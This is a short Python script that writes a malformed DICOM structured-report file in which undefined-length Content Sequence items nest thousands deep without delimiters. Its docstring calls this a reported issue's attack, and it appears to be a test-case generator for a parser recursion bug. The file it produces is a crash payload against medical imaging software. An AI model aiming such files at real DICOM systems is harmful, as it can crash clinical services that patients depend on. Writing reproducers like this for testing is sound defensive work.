#!/usr/bin/python3
"""Writes deep-nesting-<DEPTH>.dcm: a Part 10 file (explicit VR little endian, SR SOP class) whose
Content Sequence items of undefined length nest DEPTH deep, without delimiters (issue 9's attack).

  make_deep_nesting.py 20000 > deep-nesting-20000.dcm
"""
import struct
import sys


def element(group, elem, vr, value):
    if vr in (b"OB", b"SQ", b"UN", b"UT"):
        return struct.pack("<HH", group, elem) + vr + b"\0\0" + struct.pack("<I", len(value)) + value
    return struct.pack("<HH", group, elem) + vr + struct.pack("<H", len(value)) + value


def uid(s):
    return s + (b"\0" if len(s) % 2 else b"")


depth = int(sys.argv[1])
sop_class = uid(b"1.2.840.10008.5.1.4.1.1.88.11")
meta_body = (element(2, 1, b"OB", b"\0\1") + element(2, 2, b"UI", sop_class) + element(2, 3, b"UI", uid(b"2.25.1")) +
             element(2, 0x10, b"UI", uid(b"1.2.840.10008.1.2.1")))
meta = element(2, 0, b"UL", struct.pack("<I", len(meta_body))) + meta_body
dataset = (element(8, 0x16, b"UI", sop_class) + element(8, 0x18, b"UI", uid(b"2.25.1")) +
           element(0x20, 0xD, b"UI", uid(b"2.25.2")) + element(0x20, 0xE, b"UI", uid(b"2.25.3")))
level = struct.pack("<HH", 0x40, 0xA730) + b"SQ\0\0\xff\xff\xff\xff" + struct.pack("<HH", 0xFFFE, 0xE000) + b"\xff\xff\xff\xff"
sys.stdout.buffer.write(b"\0" * 128 + b"DICM" + meta + dataset + level * depth)
